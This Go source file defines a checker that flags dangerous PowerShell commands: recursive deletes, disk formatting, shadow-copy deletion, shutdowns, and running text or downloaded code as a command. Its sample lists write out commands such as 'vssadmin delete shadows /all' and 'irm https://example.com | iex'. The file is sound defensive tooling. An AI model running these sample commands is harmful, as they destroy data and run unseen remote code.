package bashsafety

import "strings"

// powershellChecks are the checks of AnalyzePowerShell.
var powershellChecks = []Check{
	{
		ID:       "powershell-remove",
		Title:    "removes files with everything in them",
		Why:      "files that are in no repository cannot be brought back",
		Instead:  "name the files: `Remove-Item notes.tmp`",
		Severity: Destructive,
		About:    AboutFiles,
		Fails:    []string{"Remove-Item -Recurse -Force build", "rm -r build", "ri build -rec", "del /s /q build", "rd /s build", "Get-ChildItem | Remove-Item -Recurse", "REMOVE-ITEM build -Recurse", "rmdir build -Recurse", "if ($x) { Remove-Item -Recurse build }", "Remove-Item -Rec:$true x", "erase -Recurse x", "rm -rf x", `cmd /c "rd /s /q x"`, "& 'Remove-Item' -Recurse x"},
		Passes:   []string{"Remove-Item notes.tmp", "Get-ChildItem -Recurse", "echo 'Remove-Item -Recurse'", "Copy-Item -Recurse a b", "git commit -m 'rm -r x'"},
		Find:     func(s *Script) []Finding { return runningCmdlet(s, removesTree) },
	},
	{
		ID:       "powershell-disk",
		Title:    "erases a disk or stops the machine",
		Why:      "the data on the disk, or the work of whoever is logged in, is lost",
		Instead:  "look first: `Get-Volume`",
		Severity: Destructive,
		Fails:    []string{"Format-Volume -DriveLetter D", "Clear-Disk -Number 1", "Initialize-Disk 1", "Remove-Partition -DiskNumber 1", "stop-computer", "Restart-Computer -Force", "Clear-RecycleBin -Force", "vssadmin delete shadows /all"},
		Passes:   []string{"Get-Volume", "Get-Disk", "echo Format-Volume"},
		Find: func(s *Script) []Finding {
			return runningCmdlet(s, func(name string, argv []Word) bool {
				switch name {
				case "format-volume", "clear-disk", "initialize-disk", "remove-partition", "stop-computer", "restart-computer", "clear-recyclebin", "reset-physicaldisk", "clear-content-volume", "format.com", "diskpart":
					return true
				case "vssadmin":
					return anyWord(argv, "delete")
				}
				return false
			})
		},
	},
	{
		ID:       "powershell-expression",
		Title:    "runs text as a command",
		Why:      "what is run cannot be read before it runs",
		Instead:  "write the command out: `Get-ChildItem`",
		Severity: Suspicious,
		Fails:    []string{"Invoke-Expression $x", "iex 'Get-ChildItem'", "irm https://example.com | iex", "(New-Object Net.WebClient).DownloadString('https://example.com') | IEX", "powershell -EncodedCommand AAAA", "pwsh -e AAAA", "Invoke-Command -ScriptBlock { x }", "Add-Type -TypeDefinition x", "Start-Process x -Verb RunAs", "Set-ExecutionPolicy Bypass"},
		Passes:   []string{"Get-ChildItem", "echo iex", "Invoke-WebRequest https://example.com -OutFile x"},
		Find: func(s *Script) []Finding {
			return runningCmdlet(s, func(name string, argv []Word) bool {
				switch name {
				case "invoke-expression", "invoke-command", "add-type", "set-executionpolicy", "invoke-cimmethod", "invoke-wmimethod":
					return true
				case "start-process":
					return anyWord(argv, "RunAs")
				case "powershell", "pwsh":
					for i := range argv[1:] {
						if t := strings.ToLower(argv[i+1].Text); len(t) > 1 && (t[0] == '-' || t[0] == '/') && strings.HasPrefix("encodedcommand", t[1:]) {
							return true
						}
					}
				}
				return false
			})
		},
	},
}

// runningCmdlet reports the subcommands whose canonical name and words fit.
func runningCmdlet(s *Script, fits func(name string, argv []Word) bool) []Finding {
	var all []Finding
	for i := range s.Subcommands {
		sub := &s.Subcommands[i]
		if fits(cmdletName(sub.Program), sub.Argv) {
			all = append(all, Finding{Sub: i, Span: sub.Span})
		}
	}
	return all
}

// removesTree is Remove-Item with -Recurse or an abbreviation of it, and the
// spellings of cmd and Unix.
func removesTree(name string, argv []Word) bool {
	if name == "cmd" {
		for i := range argv[1:] {
			low := " " + strings.ToLower(argv[i+1].Text) + " "
			if (strings.Contains(low, "rd ") || strings.Contains(low, "rmdir ") || strings.Contains(low, "del ") || strings.Contains(low, "erase ")) && strings.Contains(low, " /s ") {
				return true
			}
		}
		return anyWord(argv, "rd", "rmdir", "del", "erase") && anyWord(argv, "/s")
	}
	if name != "remove-item" {
		return false
	}
	for i := range argv[1:] {
		t, _, _ := strings.Cut(strings.ToLower(argv[i+1].Text), ":")
		if t == "/s" || len(t) > 1 && t[0] == '-' && strings.HasPrefix("-recurse", t) || t == "-rf" || t == "-fr" {
			return true
		}
	}
	return false
}

